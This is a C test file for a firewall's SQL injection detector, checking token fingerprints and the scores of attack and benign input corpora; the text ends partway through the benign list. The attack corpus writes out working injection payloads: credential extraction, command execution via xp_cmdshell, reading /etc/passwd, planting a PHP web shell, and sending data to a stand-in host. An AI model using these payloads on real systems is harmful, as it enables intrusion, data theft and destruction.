/*
 * SQL injection detector: the lexer's tokens and fingerprints in each
 * context, and the verdicts on attack and benign corpora (every attack at
 * or above the block score, every benign value below it).
 */
#include "test.h"

#include "waf/waf_int.h"

/* sqli.c: 1 when the keyword table is in strcmp order (binary search). */
int rp__sql_keywords_sorted(void);
int rp__sql_ops_grouped(void);

#define BLOCK 50

static int sqli(const char *s, size_t n, rp__waf_match_t *m)
{
    int sc = rp__waf_sqli(s, n, RP_WAF_SRC_QUERY, 0, m);
    /* invariants of every answer */
    CHECK(sc >= 0 && sc <= 100);
    CHECK(sc == m->score);
    CHECK(m->off <= n && m->len <= n - m->off);
    CHECK(memchr(m->evidence, '\0', sizeof(m->evidence)) != NULL);
    CHECK((sc == 0) == (m->evidence[0] == '\0'));
    return sc;
}

static int score(const char *s)
{
    rp__waf_match_t m;
    return sqli(s, strlen(s), &m);
}

/* The fingerprint letters of s lexed in context ctx. */
static const char *fp(const char *s, char ctx)
{
    static char out[256];
    rp__sql_token_t t[255];
    size_t n = rp__sql_tokenize(s, strlen(s), ctx, t, 255), prev_end = 0;
    for (size_t i = 0; i < n; i++) {
        out[i] = t[i].type;
        /* spans inside the input, in order, never overlapping */
        CHECK(t[i].len > 0 || (i == 0 && ctx));
        CHECK(t[i].pos >= prev_end && t[i].pos + t[i].len <= strlen(s));
        prev_end = t[i].pos + t[i].len;
    }
    out[n] = '\0';
    return out;
}

/* The text of token i. */
static rp_str_t tok(const char *s, char ctx, size_t i)
{
    rp__sql_token_t t[64];
    size_t n = rp__sql_tokenize(s, strlen(s), ctx, t, 64);
    if (i >= n)
        return RP_STR_NULL;
    return (rp_str_t){ s + t[i].pos, t[i].len };
}

#define CHECK_FP(s, ctx, want)                                                         \
    do {                                                                               \
        const char *got_ = fp((s), (ctx));                                             \
        rp_t_checks++;                                                                 \
        if (strcmp(got_, (want)) != 0) {                                               \
            rp_t_failed_checks++;                                                      \
            rp_t_cur_failed = 1;                                                       \
            fprintf(stderr, "%s:%d: fingerprint of \"%s\": got %s, want %s\n", __FILE__, \
                    __LINE__, (s), got_, (want));                                      \
        }                                                                              \
    } while (0)

TEST(keyword_table_sorted)
{
    CHECK(rp__sql_keywords_sorted());
    CHECK(rp__sql_ops_grouped());
}

TEST(tokens_basic)
{
    CHECK_FP("SELECT * FROM users WHERE id=1", 0, "Eokbkbon");
    CHECK_FP("1 UNION ALL SELECT NULL,2", 0, "nUkEn,n");
    CHECK_FP("sleep(5) sleep (x)", 0, "f(n)f(b)");
    CHECK_FP("sleep well", 0, "bb");                   /* a function only before ( */
    CHECK_FP("a AND b OR c XOR d && e || f", 0, "b&b&b&b&b&b");
    CHECK_FP("a = b <> c != d <= e >= f <=> g", 0, "bobobobobobob");
    CHECK_FP("a LIKE b NOT IN c IS NULL", 0, "boboobon");
    CHECK_FP("@@version @x @'q'", 0, "vvv");
    CHECK_FP("user@example.com", 0, "b");             /* an address, not a variable */
    CHECK_FP("1union select", 0, "nUE");              /* MySQL splits 1union */
    CHECK_FP("5th 4AND4 2fa", 0, "bbb");
    CHECK_FP("; ( ) ,", 0, ";(),");
    CHECK_FP("{ } [ ] \\", 0, "xxxxx");
    CHECK_FP("dbms_pipe.receive_message(", 0, "f(");
    CHECK_FP("information_schema.tables master..xp_cmdshell", 0, "bb");
    CHECK_FP("current_user", 0, "v");                /* a function without parentheses */
    CHECK_FP("", 0, "");
    CHECK_FP("   \t\r\n", 0, "");
}

TEST(tokens_numbers)
{
    CHECK_FP("0x41 0X4a 0b101 1e5 1E-3 .5 3.14 1.e", 0, "nnnnnnnn");
    CHECK_STR(tok("1.e(ascii", 0, 0), "1.e");        /* MySQL reads 1.e as 1.0 */
    CHECK_FP("1.5e(", 0, "b(");                       /* no MySQL oddity with decimals */
    CHECK_FP("0x 0xg", 0, "bb");
    CHECK_FP("X'41' B'01' N'abc' E'x\\'y' _utf8'z'", 0, "nnsss");
    CHECK_FP("-1", 0, "on");                          /* the sign is folded later */
    CHECK_FP("2010-01-01", 0, "nonon");
}

TEST(tokens_strings)
{
    CHECK_FP("'it''s' 'a\\'b' \"q\" `id`", 0, "sssb");
    CHECK_STR(tok("'it''s' x", 0, 0), "'it''s'");
    CHECK_STR(tok("'a\\'b' x", 0, 0), "'a\\'b'");
    CHECK_STR(tok("`a\\`b", 0, 0), "`a\\`");         /* no backslash escapes in `..` */
    CHECK_FP("'unterminated", 0, "s");
    CHECK_FP("\"unterminated 'x", 0, "s");
    CHECK_FP("$$ body ' \" $$ x", 0, "sb");           /* PostgreSQL dollar quotes */
    CHECK_FP("$tag$ a $$ b $tag$", 0, "s");
    CHECK_FP("$tag$ unterminated", 0, "s");
    CHECK_FP("$1 $ne $", 0, "vbb");
    CHECK_FP("rock'n'roll", 0, "bsb");
}

TEST(tokens_comments)
{
    CHECK_FP("a -- c\nb", 0, "bcb");
    CHECK_FP("a --c", 0, "bc");
    CHECK_FP("a # c\nb", 0, "bcb");
    CHECK_FP("a #> b #>> c", 0, "bobob");             /* PostgreSQL JSON operators */
    CHECK_FP("a /* c */ b", 0, "bcb");
    CHECK_FP("a /* unterminated", 0, "bc");
    CHECK_FP("a /*+ hint */ b", 0, "bcb");
    /* MySQL executable comments: the content is code */
    CHECK_FP("1 /*!50000union*/ /*!select*/ 1", 0, "ncUccEcn");
    CHECK_STR(tok("/*!50000union*/", 0, 0), "/*!50000");
    CHECK_FP("1/**/union/**/select/**/1", 0, "ncUcEcn");
    CHECK_FP("x */ y", 0, "bcb");                     /* a comment the query opened */
}

TEST(tokens_context)
{
    /* in a quote context the first token is the rest of the query's string */
    CHECK_FP("1' or '1'='1", '\'', "s&sos");
    CHECK_STR(tok("1' or '1'='1", '\'', 0), "1'");
    CHECK_FP("1' or '1'='1", 0, "nsnsn");
    CHECK_FP("x\" or 1=1--", '"', "s&nonc");
    CHECK_FP("x\" or 1=1--", '\'', "s");              /* never leaves the string */
    CHECK_FP("O''Reilly' or 1", '\'', "s&n");         /* doubled quotes stay inside */
    CHECK_STR(tok("O''Reilly' or 1", '\'', 0), "O''Reilly'");
    CHECK_STR(tok("x\\' or 1", '\'', 0), "x\\'");     /* no backslash escape here */
    CHECK_FP("' or 1=1", '\'', "s&non");
    CHECK_STR(tok("' or 1=1", '\'', 0), "'");
    CHECK_FP("", '\'', "s");
    CHECK_FP("a::int", 0, "bot");                     /* a type after :: */
}

TEST(tokens_limits)
{
    rp__sql_token_t t[8];
    const char *s = "a b c d e f g h i j k";
    CHECK_EQ_INT(rp__sql_tokenize(s, strlen(s), 0, t, 8), 8);
    CHECK_EQ_INT(rp__sql_tokenize(s, strlen(s), 0, t, 0), 0);
    CHECK_EQ_INT(rp__sql_tokenize(s, strlen(s), 0, NULL, 8), 0);
    CHECK_EQ_INT(rp__sql_tokenize(NULL, 0, 0, t, 8), 0);
}

TEST(tokens_binary)
{
    /* NUL bytes separate tokens; invalid UTF-8 stays inside words */
    static const char nul[] = "select\0*\0from\0t";
    static const char bad[] = "1 union select 1,2 \xff\xfe\xc3 \x80\x80";
    rp__sql_token_t t[16];
    size_t n = rp__sql_tokenize(nul, sizeof(nul) - 1, 0, t, 16);
    CHECK_EQ_INT(n, 4);
    CHECK(n == 4 && t[0].type == 'E' && t[1].type == 'o' && t[2].type == 'k' && t[3].type == 'b');
    n = rp__sql_tokenize(bad, sizeof(bad) - 1, 0, t, 16);
    CHECK_EQ_INT(n, 8);
    CHECK(n == 8 && t[1].type == 'U' && t[2].type == 'E' && t[6].type == 'b' && t[7].type == 'b');
    {
        rp__waf_match_t m;
        CHECK(sqli(nul, sizeof(nul) - 1, &m) >= 0);
        CHECK(sqli(bad, sizeof(bad) - 1, &m) >= BLOCK);       /* union select */
    }
}

/* Attacks: each must score at least BLOCK. */
static const char *const attacks[] = {
    "1 OR 1=1",
    "1 or 1=1--",
    "1' or '1'='1",
    "1' or '1'='1'--",
    "1' or 1=1--",
    "1' or 1=1#",
    "1' or 1=1/*",
    "' or 1=1--",
    "' or 1=1#",
    "' OR 1=1 --",
    "' or ''='",
    "' or 'a'='a",
    "' or 'x'='x",
    "\" or \"x\"=\"x",
    "\" or 1=1--",
    "') or ('1'='1",
    "') or ('a'='a",
    "')) or (('1'='1",
    "admin'--",
    "admin' --",
    "admin'#",
    "admin' #",
    "admin'/*",
    "admin')--",
    "admin' or '1'='1",
    "admin' or 1=1--",
    "admin\") or (\"1\"=\"1",
    "' or true--",
    "' or 1--",
    "x' or 'x",
    "1 and 1=1",
    "1 AND 1=2",
    "1 and 1=(select 1)",
    "1' and 1=(select count(*) from users)--",
    "1' AND SLEEP(5)--",
    "1' AND SLEEP(5) AND '1'='1",
    "1 AND SLEEP(5)",
    "1) AND SLEEP(5)#",
    "' AND BENCHMARK(5000000,MD5(1))--",
    "1; WAITFOR DELAY '0:0:5'--",
    "';waitfor delay '0:0:5'--",
    "'; WAITFOR DELAY '00:00:05'--",
    "1'; SELECT pg_sleep(5)--",
    "1; SELECT pg_sleep(5)",
    "' || pg_sleep(5)--",
    "'||pg_sleep(10)||'",
    "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "' AND 123=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)--",
    "sleep(5)",
    "SLEEP(5)#",
    "benchmark(10000000,sha1(1))",
    "pg_sleep(5)",
    "(select sleep(5))",
    "(SELECT * FROM (SELECT(SLEEP(5)))a)",
    "1 UNION SELECT 1,2,3",
    "1 union select null,null,null--",
    "-1 UNION SELECT username,password FROM users--",
    "' UNION SELECT username, password FROM users--",
    "' UNION ALL SELECT NULL,NULL--",
    "\" UNION SELECT 1,2,3#",
    "') UNION SELECT 1,@@version--",
    "1/**/union/**/select/**/1,2,3",
    "1 /*!50000union*/ /*!50000select*/ 1,2,3",
    "1 /*!union*/ /*!select*/ 1",
    "-1' union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--",
    "-1 union select 1,table_name from information_schema.tables",
    "1 UNION SELECT LOAD_FILE('/etc/passwd')",
    "1 UNION DISTINCT SELECT 1",
    "1 UNION(SELECT 1,2)",
    "1 order by 1--",
    "1' order by 1--",
    "1' ORDER BY 3#",
    "1' GROUP BY 1,2--",
    "' having 1=1--",
    "1' having 1=1--",
    "' group by columnnames having 1=1 --",
    "1; DROP TABLE users",
    "1; DROP TABLE users--",
    "'; DROP TABLE users; --",
    "x'; DROP TABLE members; --",
    "1; DELETE FROM users",
    "'; DELETE FROM users WHERE 1=1--",
    "1; UPDATE users SET password='x' WHERE user='admin'--",
    "'; INSERT INTO users VALUES ('hacker','pass')--",
    "1; exec xp_cmdshell('dir')",
    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "; exec xp_cmdshell 'whoami'",
    "1; EXEC sp_configure 'show advanced options', 1",
    "'; shutdown--",
    "1;shutdown",
    "'; SHUTDOWN WITH NOWAIT;--",
    "1; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)",
    "1'; TRUNCATE TABLE logs--",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "' AND updatexml(1,concat(0x7e,(select user())),1)--",
    "1 AND extractvalue(rand(),concat(0x3a,(SELECT user())))",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1 AND ASCII(SUBSTRING(user(),1,1))>100",
    "1 AND (SELECT SUBSTRING(version(),1,1))='5'",
    "1' AND (SELECT 1 FROM users LIMIT 1)='1",
    "' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>64",
    "' AND 1=(SELECT 1 FROM dual WHERE 1=1)--",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "1 AND (CASE WHEN 1=1 THEN SLEEP(5) ELSE 0 END)",
    "IF(1=1,SLEEP(5),0)",
    "if(now()=sysdate(),sleep(5),0)",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "1' AND IF(1=1,SLEEP(5),0)--",
    "' INTO OUTFILE '/var/www/shell.php'--",
    "1 INTO OUTFILE '/tmp/x'",
    "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/x.php'--",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' AND 1=1 AND '1'='1",
    "1' AND '1'='1",
    "1' AND 'a'='a",
    "\" AND \"a\"=\"a",
    "1 AND 'a'='a'",
    "1' OR 'a'='a' --",
    "' OR username LIKE '%admin%'--",
    "' OR 1 LIKE 1--",
    "' or 1 in (select @@version)--",
    "' OR EXISTS(SELECT * FROM users)--",
    "1 OR EXISTS(SELECT 1)",
    "admin' AND password LIKE 'a%'--",
    "1' and substring(@@version,1,1)=5--",
    "1 and length(database())=8",
    "1' and length(user())>1--",
    "' and (select top 1 name from sysobjects where xtype='U')>0--",
    "1 and 1=(select top 1 table_name from information_schema.tables)",
    "'+(select 1)+'",
    "'||(select 1)||'",
    "' + CHAR(65)+CHAR(66) + '",
    "'||chr(65)||chr(66)||'",
    "'; select * from users where '1'='1",
    "1' ;select 1--",
    "'; select @@version--",
    "SELECT * FROM users",
    "SELECT * FROM users WHERE id = 1",
    "select user()",
    "select version()",
    "select @@version",
    "SELECT name FROM sysobjects WHERE xtype = 'U'",
    "SELECT table_name FROM information_schema.tables",
    "UNION SELECT 1",
    "union all select 1,2,3",
    "' union select null --",
    "1 OR 1=1 LIMIT 1",
    "1 OR 1=1 ORDER BY 1",
    "-1 OR 2>1",
    "-1' OR 2>1--",
    "1 OR 'a'='a'",
    "1 or true",
    "1 || 1=1",
    "1' || '1'='1",
    "1 && 1=1",
    "' && 1=1--",
    "1 XOR 1=1",
    "1' XOR '1'='1",
    "1' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055",
    "' UNION SELECT 1, 'anotheruser', 'doesnt matter', 1--",
    "%' AND 1=1 AND '%'='",
    "%' or 1=1--",
    "1 AND 1=1 -- -",
    "1 AND 1=1 #",
    "1' -- -",
    "' --",
    "'#",
    "'/*",
    "1'/**/or/**/1=1--",
    "1'/**/union/**/select/**/1--",
    "1)) or ((1=1",
    "1)) union select 1,2--",
    "1' and (select 1 from(select count(*),concat((select (select (select concat(0x7e,0x27,cast(user() as char),0x27,0x7e)) from information_schema.tables limit 0,1),floor(rand(0)*2))x from information_schema.tables group by x)a) and '1'='1",
    "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "' AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))--",
    "' AND 1=(SELECT UTL_HTTP.REQUEST('http://x.com/'||user) FROM dual)--",
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "1 and randomblob(100000000)",
    "' OR 1=1 INTO OUTFILE '/tmp/x",
    "' AND 1=0 UNION SELECT NULL, table_name FROM all_tables--",
    "1 UNION SELECT name, sql FROM sqlite_master",
    "1 UNION SELECT 1,(SELECT string_agg(datname,',') FROM pg_database)",
    "'; COPY (SELECT '') TO PROGRAM 'id'--",
    "1;copy users to '/tmp/x'",
    "' AND 1::int=1--",
    "' AND 'x'::text='x'--",
    "1 AND 1=CAST(version() AS int)",
    "'||(SELECT version())::int||'",
    "1'::int",
    "' or sleep(5)='",
    "'or''='",
    "'='",
    "' or 0=0 --",
    "\" or 0=0 --",
    "or 0=0 --",
    "' or 0=0 #",
    "\" or 0=0 #",
    "or 0=0 #",
    "' or 'x'='x",
    "\") or (\"x\")=(\"x",
    "')) or (('x'))=(('x",
    "hi' or 'x'='x';",
    "x' AND userid IS NULL; --",
    "x' AND email IS NULL; --",
    "anything' OR 'x'='x",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "x' AND members.email IS NULL; --",
    "x' OR full_name LIKE '%Bob%",
    "23 OR 1=1",
    "' or 1=1 limit 1 -- -+",
    "1 and 1 in (select 1)",
    "1 and 1 in (select @@version)",
    "1 and (select count(*) from users)>0",
    "-1 or 1=1 and sleep(5)",
    "admin'/**/or/**/'1'='1",
    "' or ascii(substr(user(),1,1))>64 --",
    "'or 1=1 or''='",
    "' or 1=1 or ''='",
    "1\" and \"1\"=\"1",
    "1\"; drop table users; --",
    "1\"; select pg_sleep(5); --",
    "1 AND @@version LIKE '%5%'",
    "' and @@version like '%MariaDB%' --",
    "1234 OR 1=1",
    "-1839' or '1'='1",
    "2010-01-01' sleep(20.to_i) '",
    "EmptyValue' and 526=527",
    "foo') UNION ALL select NULL --",
    "foo')waitfor delay'5:0:20'--",
    "JKGHUKGDI8TDHLFJH72FZLFJSKFH' and sleep(12) --",
    "BENChmARk(2999/**/999,Md5(NoW()",
    "sELecT slEep (20 dIv 3)",
    "selEct(/*te\"$%st*/sleep(/*te'e*st2*/10));",
    "SELECT BENCHMARK(1000000,1+1);",
    "; sleep(0)",
    "select]=polygon((/*!00000select*/*/*!00000from*/(/*!00000select*/concat_ws(0x7e3a,0x6d616b6d616e,version(),user(",
    "SeLect*/ 1,2,3,user(",
    "from `information_schema`",
    "@.:=right(right((select user_login from wordpress.wp_users limit 1,1),1111),1111) union#\x0a""distinctrow\x0b""select@.",
    "SELECT IIF(1 > 1, 'TRUE', 'FALSE' )",
    "SELECT x GROUP BY SOMETHING HAVING COUNT(Id) >= 9",
    "ALTER TABLE `mass_mails` CHANGE `receivers` `receivers` ENUM('A','B') CHARACTER SET utf8",
    "EXECUTE IMMEDIATE \"",
    "procedure analyse (",
    "exec (@",
    "declare @b",
    "DECLARE/**/@x",
    "password::int",
    "1' and unistr(password)::bool--",
    "lo_import('/etc' || '/pass' || 'wd')",
    "function(foo)::text",
    ";INSERT INTO table (col) VALUES",
    "CREATE FUNCTION hello (s CHAR(20)) RETURNS CHAR(50) DETERMINISTIC RETURN CONCAT('Hello, ',s,'!');",
    ";RePLAcE/*test*/test/*test*/(id, name) VALUES (1, 'test');",
    ";DROP/*test*/TABLE test;",
    "1234 AS \"foobar\" FROM tablevar2=whatever",
    "` AS `edit_user_id` from",
    "x\"; SELECT LOAD_FILE('",
    "9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}",
    "9999 or /*+optimizer hint */ true",
    "admin@juice-sh.op';",
    "root@example.com'/* comment */;",
    "admin@juice-sh.op`;",
    "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
    "OR json_extract('{\"id\": 14, \"name\": \"Aztalan\"}', '$.name') = 'Aztalan'",
    "OR '[1,2]' ? '1'",
    "OR '{\"name\":\"asd\"}' ?| array['a','name']",
    "'[\"a\", {\"b\":1}]'::jsonb #- '{1,b}'",
    "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or'1'='2",
    "1.e(ascii)",
    "information_schema",
    "pg_catalog",
    "database(",
    "db_name(",
    "user(",
    "current_user(",
    "if(1234=",
    ", FIND_IN_SET('22', Category )",
    "div(23,-2)",
    ") like (",
    "user'collate nocase--",
    "z'or email notnull--",
    "admin@juice-sh.op' and email = all (select email)--",
    "' + CHAR(65)+CHAR(66) + '",
    "1;copy users to '/tmp/x'",
    "select @@version",
    "/CREATE TABLE Persons",
    "VALUES ('192.168.0.1', 'test')",
    "foo\\''or'oof",
    "'x'!='y",
    ") AS Role FROM",
    "` REGEXP ",
    ";truncate[xx",
    "'select H",
    "' and email not similar to id--",
    "x' or email~all(array[email]);analyze--",
    "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "1' AND SUBSTRING(version() FROM 1 FOR 1)='5",
};

/* Benign values: each must score below BLOCK. */
static const char *const benign[] = {
    "O'Reilly",
    "O'Reilly Media",
    "Sean O'Brien",
    "D'Angelo",
    "Mc'Donald's",
    "select a plan",
    "Select a plan",
    "Please select a plan",
    "1-2",
    "drop me a line",
    "Drop me a line at your convenience",
    "Tom & Jerry",
    "Tom and Jerry",
    "I'd rather use the union than a select few",
    "rock'n'roll",
    "Rock 'n' roll",
    "it's 5 o'clock",
    "It's 5 o'clock somewhere",
    "please select the item from the list where you want it",
    "Please select the item from the list where you want it.",
    "Select one",
    "Select all that apply",
    "Select all from the list",
    "(select one)",
    "Choose a color (select one)",
    "Select 1 of the following",
    "Select \"Save\" to continue",
    "Select 'Save' to continue",
    "Click 'Save' or 'Cancel'",
    "He said 'yes' or 'no'",
    "'yes' or 'no'",
    "\"yes\" or \"no\"",
    "\"foo\" or \"bar\"",
    "\"john\" AND \"doe\"",
    "Yes or no?",
    "true or false",
    "1 or 2",
    "either 1 or 2",
    "choose 1 or 2",
    "Pick 3 or 4 items",
    "5' 6\"",
    "He is 6' tall",
    "between 5' and 6'",
    "She's 5'4\" and he's 6'1\"",
    "Jones' house",
    "The Jones' car -- a red one",
    "Guns N' Roses #1 hit",
    "I love 'em #blessed",
    "rock'#1",
    "We're #1!",
    "Issue #42 is fixed",
    "color: #fff;",
    "#hashtag #another",
    "C# and F# are languages",
    "Wait -- what?",
    "Hello -- said the man",
    "my--slugified-url",
    "2010-01-01",
    "2024-03-15T10:20:30Z",
    "2024-03-15 10:20:30.123+02:00",
    "12:30",
    "+1 (555) 123-4567",
    "(555) 123-4567",
    "+33 1 23 45 67 89",
    "john.doe@example.com",
    "o'brien@example.com",
    "first.last+tag@sub.example.co.uk",
    "admin@example.com",
    "https://example.com/path?query=1&other=2#frag",
    "http://localhost:8080/api/v1/users/123",
    "https://www.google.com/search?q=select+from+where",
    "/api/v2/orders/550e8400-e29b-41d4-a716-446655440000",
    "550e8400-e29b-41d4-a716-446655440000",
    "{\"name\": \"John\", \"age\": 30}",
    "{\"a\":1,\"b\":[1,2,3],\"c\":{\"d\":null}}",
    "[1, 2, 3]",
    "[\"a\", \"b\", \"c\"]",
    "{\"query\": \"select\", \"from\": \"menu\", \"where\": \"here\"}",
    "{\"title\": \"It's a \\\"test\\\"\", \"ok\": true}",
    "key=value; other=thing",
    "a=1&b=2&c=3",
    "if (a == b) { return; }",
    "if (x > 0 && y < 10) { z = x || y; }",
    "for (int i = 0; i < n; i++) { sum += a[i]; }",
    "while (true) { break; }",
    "function f(a, b) { return a + b; }",
    "const x = (a + b) * 2;",
    "(a+b)*2 = c",
    "(a + b) * 2 = c",
    "x = 1 or y = 2",
    "x > 5 and y < 3",
    "a == 1 || b == 2",
    "price >= 10 and price <= 20",
    "3 * (4 + 5) = 27",
    "2^10 = 1024",
    "1/2 + 1/3 = 5/6",
    "e = mc^2",
    "f(x) = sin(x) + cos(x)",
    "f'(x) = 2x",
    "sqrt(16) = 4",
    "The value of pi is 3.14159",
    "10% off everything!",
    "50% discount - today only",
    "100% cotton",
    "It costs $5.99",
    "Total: $1,234.56",
    "\xe2""\x82""\xac""12,50",
    "Release v1.2.3-beta.4",
    "version 2.0 (beta)",
    "Windows NT 10.0; Win64; x64",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "curl/8.4.0",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "en-US,en;q=0.9,fr;q=0.8",
    "gzip, deflate, br",
    "max-age=0, no-cache",
    "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMe--KKF2QT4fwpMeJf36POk6yJV_adQssw-5c",
    "SGVsbG8gV29ybGQh",
    "dGhpcyBpcyBhIHRlc3Q=",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "d41d8cd98f00b204e9800998ecf8427e",
    "0x1a2b3c",
    "0xdeadbeef",
    "#ff0000",
    "rgb(255, 0, 0)",
    "rgba(0,0,0,0.5)",
    "calc(100% - 20px)",
    "url(/images/bg.png)",
    "translate(-50%, -50%)",
    "font-family: 'Helvetica Neue', Arial, sans-serif;",
    "margin: 0 auto; padding: 10px 20px;",
    "<b>bold</b> and <i>italic</i>",
    "<p>Hello, world!</p>",
    "**bold** and _italic_",
    "# Title",
    "## Subtitle with 'quotes'",
    "- item one",
    "- item two",
    "1. first",
    "2. second",
    "> quoted text",
    "Use `npm install` to install",
    "Run `git commit -m \"message\"` then push",
    "Call `foo(bar)` first",
    "The `users` table has a `name` column",
    "C:\\Program Files\\App\\app.exe",
    "C:\\Users\\O'Neil\\Documents",
    "/usr/local/bin/python3",
    "/home/user/.config/app.json",
    "../images/logo.png",
    "./script.sh --help",
    "ls -la | grep foo",
    "git log --oneline -n 5",
    "npm run build -- --watch",
    "docker run -p 8080:80 nginx",
    "SELECT",
    "select",
    "union",
    "drop",
    "delete",
    "update",
    "insert",
    "from",
    "where",
    "order",
    "group",
    "having",
    "Union Station",
    "European Union",
    "the union of two sets",
    "Student Union building",
    "union of A and B",
    "Select Comfort",
    "Drop Zone",
    "Delete account",
    "Update profile",
    "Insert coin",
    "Order #12345",
    "Order by phone",
    "Sort by date",
    "order by date",
    "Group by category",
    "Please order by Friday",
    "Where are you from?",
    "Where is the drop-off point?",
    "From here to there",
    "Insert the card into the slot",
    "Insert into the slot A",
    "I want to delete my account, please",
    "Please delete from my cart the red shoes",
    "How do I update my email?",
    "Can you drop the price?",
    "Drop table reservations for Friday?",
    "Please drop table 5 from the reservation",
    "I'll have the table by the window",
    "Create an account",
    "Create a new table for the kids",
    "Alter the dress please",
    "Execute the plan",
    "Exec summary attached",
    "Declare your income",
    "Shutdown the computer",
    "Truncate the text after 100 characters",
    "Load data from the file",
    "Let's grant access to Bob",
    "Having fun",
    "having pain!",
    "Having said that, I agree",
    "behaving badly/",
    "I sleep well!",
    "I need more sleep (8 hours at least)",
    "Sleep (2019 film)",
    "sleep tight",
    "Benchmark results for 2024",
    "benchmark of the new CPU",
    "Delay in delivery",
    "waiting for delay information",
    "wait for the delay",
    "Left (WA, RR), following wood edge south",
    "Delete (Trashcan)",
    "Compress (zip)",
    "Harsle (1319), Crucesignati in Herslo (1475) und Ha\xc3""\x9f""elt (1599).",
    "One quarter (24%) of people have had an affair",
    "The measures of the interior angles of the triangle always add up to 180 degrees (same color to point out they are equal).",
    "survival is very unlikely (~2% if not in a hospital).",
    "The script is written from right to left, (Lal 1966) and sometimes follows a boustrophedonic style.",
    "Just in case (abc)",
    "in case when it rains then we stay home",
    "In case of fire, then run",
    "Case when closed",
    "it is my beliif (stemming from personal experience), that",
    "appUser(sitename,user)",
    "Die \"Union von Europa\"",
    "\"Quote\"! Next sentence",
    "address=999, rue d'Arlon",
    "ABANCA CORPORACION BANCARIA, S.A",
    "And, of course, I was kidding.\"",
    "Alta Arsenault says she knits 'morning to night, every day.'",
    "pay=/Business and",
    "and 7 oranges",
    "bob's or alice's",
    "mother or daughter",
    "'oreo",
    "'fork",
    "' for",
    "how was your day today?",
    "I Love you <3",
    "Find your solution here -> link",
    "123<456",
    "famous actor",
    "for loop in javascript",
    "except selecting",
    "booked for 2021(including 2020",
    "1 is not 1",
    "'1' not regexp '1'",
    "This is like no other",
    "It is highly unlikely this is going to be a false positive",
    "Je voudrais s\xc3""\xa9""lectionner l'article dans la liste",
    "C'est l'\xc3""\xa9""t\xc3""\xa9"", n'est-ce pas ?",
    "L'union fait la force",
    "Qu'est-ce que c'est ?",
    "J'ai mis \xc3""\xa0"" jour le fichier et supprim\xc3""\xa9"" l'ancien",
    "S\xc3""\xa9""lectionnez une option ou laissez vide",
    "Aujourd'hui, l'\xc3""\xa9""quipe a d\xc3""\xa9""cid\xc3""\xa9"" d'annuler la r\xc3""\xa9""union (voir ci-dessous)",
    "Il faut choisir entre 'oui' et 'non'",
    "\xc2""\xab"" Bonjour \xc2""\xbb"" ou \xc2""\xab"" Salut \xc2""\xbb"" ?",
    "O\xc3""\xb9"" est la gare ? \xc3""\x80"" gauche ou \xc3""\xa0"" droite ?",
    "rue de l'\xc3""\x89""glise, 75001 Paris",
    "Ich m\xc3""\xb6""chte das Element aus der Liste ausw\xc3""\xa4""hlen",
    "W\xc3""\xa4""hlen Sie eine Option oder lassen Sie das Feld leer",
    "Die Union und die Partei haben sich geeinigt",
    "L\xc3""\xb6""schen Sie den Eintrag, wenn er nicht mehr ben\xc3""\xb6""tigt wird",
    "Stra\xc3""\x9f""e 12, 10115 Berlin",
    "Er sagt: \"Das ist gut\" oder 'nicht'",
    "Wie geht's? Gut, danke!",
    "Gr\xc3""\xb6""\xc3""\x9f""e (in cm) und Gewicht (in kg)",
    "Quiero seleccionar el art\xc3""\xad""culo de la lista",
    "\xc2""\xbf""D\xc3""\xb3""nde est\xc3""\xa1"" la estaci\xc3""\xb3""n? \xc2""\xbf""A la izquierda o a la derecha?",
    "Seleccione una opci\xc3""\xb3""n o deje en blanco",
    "La uni\xc3""\xb3""n hace la fuerza",
    "El ni\xc3""\xb1""o dijo 'hola' y 'adi\xc3""\xb3""s'",
    "Calle Mayor 5, 28013 Madrid",
